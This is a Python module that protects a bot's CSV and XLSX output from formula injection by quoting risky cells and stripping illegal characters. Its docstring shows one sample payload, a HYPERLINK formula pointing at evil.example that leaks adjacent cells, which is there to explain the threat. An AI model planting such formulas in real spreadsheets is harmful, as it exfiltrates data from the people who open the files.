"""Cells of the spreadsheets the bot writes (CSV and XLSX), safe to open. Pure.

A spreadsheet program reads a text cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, also when the cell comes from a CSV file: a participant whose name is
``=HYPERLINK("https://evil.example/?x="&A2,"Avaa")`` would put a live link that leaks the
neighbouring cells into a coordinator's file ("CSV injection", "formula injection"). Tab and
carriage return at the start do the same in some programs.

Every text cell the bot writes goes through :func:`safe_text`, OWASP's rule: such a text
gets a single quote ``'`` in front, which spreadsheet programs show as text and never run.
Leading spaces and newlines do not hide a formula sign (`` =1+1`` is quoted too), nor do the
full-width forms (``＝``). Numbers the bot writes as numbers — amounts, counts, shares — are
not text and stay numbers (a negative amount is a number cell, not a formula).

* CSV: :func:`csv_row` turns a row of values into what :func:`csv.writer` writes: text
  neutralised, ``int`` and ``Decimal`` as numbers (``Decimal`` with a decimal comma, as the
  Finnish ``;``-separated files are read), ``None`` as an empty cell.
* XLSX: :func:`set_text` stores a text in an openpyxl cell as a string cell (``data_type``
  ``"s"``, never ``"f"``), neutralised and without the control characters the file format
  cannot hold. The bot's own formulas, if a workbook ever has them, are written on purpose
  with ``cell.value = "=SUM(...)"`` and are not touched here.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")  # ASCII and full-width
FORMULA_STARTS = ("\t", "\r")
QUOTE = "'"
# What an XLSX file cannot hold (openpyxl refuses it): C0 controls but tab, LF and CR.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_dangerous(text: str) -> bool:
    """True if a spreadsheet program could read ``text`` as a formula."""
    if text.startswith(FORMULA_STARTS):
        return True
    first = text.lstrip(" \n\u00a0")[:1]
    return first in FORMULA_SIGNS


def safe_text(text: str) -> str:
    """``text`` as a text cell: a single quote in front when it could start a formula."""
    return QUOTE + text if is_dangerous(text) else text


def csv_value(value: object) -> str | int:
    """One CSV cell: text neutralised, numbers as numbers, ``None`` empty."""
    if value is None:
        return ""
    if isinstance(value, bool):  # a bool is an int, but not a number anyone typed
        return safe_text(str(value))
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal):
        return str(value).replace(".", ",")
    return safe_text(str(value))


def csv_row(values: Iterable[object]) -> list[str | int]:
    """A row for :func:`csv.writer`, every cell through :func:`csv_value`."""
    return [csv_value(value) for value in values]


def xlsx_text(text: str) -> str:
    """``text`` as an XLSX string: neutralised, characters the format cannot hold removed."""
    return safe_text(_XLSX_ILLEGAL.sub("", text))


def set_text(cell: Any, text: str) -> None:
    """Store ``text`` in an openpyxl cell as a string cell (``data_type`` ``"s"``)."""
    cell.value = xlsx_text(text)
    cell.data_type = "s"
